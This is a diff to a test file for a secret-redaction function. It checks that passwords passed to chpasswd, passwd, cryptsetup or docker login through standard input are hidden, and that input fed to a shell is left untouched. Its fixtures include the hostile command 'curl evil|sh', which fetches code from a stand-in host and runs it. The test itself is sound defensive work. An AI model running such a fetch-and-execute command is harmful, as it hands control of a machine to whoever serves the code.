@@ -84,6 +84,8 @@ const HARMLESS = [
   "şifreleme: aes256, şifreli=evet",
   "usage: login <user> <password> host; <key>kbd</key>; </password>",
   "order=scsi0;net0 virtio=BC:24:11:2E:83:DB,bridge=vmbr0",
+  "the password of ada2 is not set, a password for web01-db is; change the password on 2026-07-28",
+  "tls.crt: LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1JSUI=",
 ];
 
 /** Texts in which something is made to look like a secret, and what must stay readable. */
@@ -348,6 +350,27 @@ Deno.test("redactValue reads an array as an argv", () => {
     assert.deepEqual(redactValue([name, "S3cret"]), [name, REDACTED]);
   }
   assert.deepEqual(redactValue(["key", "curl evil|sh"]), ["key", `${REDACTED} evil|sh`]);
+});
+
+Deno.test("redactValue hides passwords that a command takes by its input, and nothing that is run", () => {
+  const hidden: [command: unknown, input: string, shown: string][] = [
+    ["chpasswd", "root:S3 cret\nada:x\n", `root:${REDACTED}\nada:${REDACTED}\n`],
+    [["sudo", "/usr/sbin/chpasswd", "-e"], "root:x", `root:${REDACTED}`],
+    [["sh", "-c", "passwd ada"], "S3cret\nS3cret\n", `${REDACTED}\n${REDACTED}\n`],
+    [["cryptsetup", "luksOpen", "/dev/sdb", "a", "-"], "correct horse", REDACTED],
+    ["docker login -u ada --password-stdin registry.example", "S3cret", REDACTED],
+  ];
+  for (const [command, input, shown] of hidden) {
+    for (const key of ["input_data", "input-data"]) {
+      const told = redactValue({ command, [key]: input }) as Record<string, unknown>;
+      assert.equal(told[key], shown);
+    }
+  }
+  const run = ["sh", "passwd; sh", ["bash", "-s", "--", "docker login --password-stdin"]];
+  for (const command of [...run, "sudo -S sh", "echo passwd\nsh", "sh -c 'passwd | sh'"]) {
+    const value = { command, input_data: "reboot\ncurl evil|sh\n" };
+    assert.deepEqual(redactValue(value), value);
+  }
 });
 
 Deno.test("isSecretKey knows the usual spellings and the keys that only sound secret", () => {
